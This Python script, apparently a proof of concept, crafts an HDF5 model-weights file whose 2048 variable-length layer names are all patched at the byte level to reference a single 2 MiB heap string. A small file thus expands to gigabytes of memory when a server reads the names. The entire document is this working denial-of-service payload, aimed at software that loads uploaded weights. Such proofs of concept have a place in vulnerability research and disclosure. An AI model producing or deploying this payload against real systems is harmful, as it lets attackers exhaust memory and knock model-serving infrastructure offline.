"""Run in the server's environment: a small weights file whose names take gigabytes once they are read.

python weights_bomb.py PATH

A list of names of variable length holds references into a heap; here all of them go to one name of 2 MiB.
"""

import struct
import sys
from pathlib import Path

import h5py
import numpy as np

NAMES, LONG = 2048, 2 << 20


def main() -> None:
    path = Path(sys.argv[1])
    with h5py.File(path, "w") as file:
        file.attrs["layer_names"] = np.array(["a" * LONG] + ["b"] * (NAMES - 1), h5py.string_dtype())
    content = bytearray(path.read_bytes())
    # A reference: length, address of the heap, number in the heap (format specification, IV.A.2.m).
    first = content.index(struct.pack("<I", LONG))
    reference = content[first : first + 16]
    content[first : first + 16 * NAMES] = reference * NAMES
    path.write_bytes(content)


if __name__ == "__main__":
    main()
